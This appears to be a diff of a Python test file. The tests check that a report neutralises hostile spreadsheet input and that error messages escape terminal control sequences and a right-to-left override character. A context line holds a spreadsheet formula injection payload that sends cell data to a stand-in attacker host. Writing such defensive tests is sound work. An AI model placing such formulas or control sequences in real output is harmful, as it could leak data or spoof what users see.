@@ -239,3 +239,11 @@ def test_the_report_of_the_hostile_register_runs_nothing(hostile: Written, tmp_p
                         '=HYPERLINK("http://evil.example/?x="&A1,"click")'):  # fmt: skip
             assert payload in text
         assert record.problems() == []
+
+
+@pytest.mark.neo4j
+def test_error_messages_quote_user_text_escaped(neo4j_store) -> None:  # type: ignore[no-untyped-def]
+    code, _, err = exact("query", "RETURN '\x1b[2J\u202e' AS x x", env=neo4j_env(neo4j_store))
+    assert code == 1
+    assert "RETURN '\\x1b[2J\\u202e' AS x x" in err
+    assert not RAW_CONTROL.search(err)
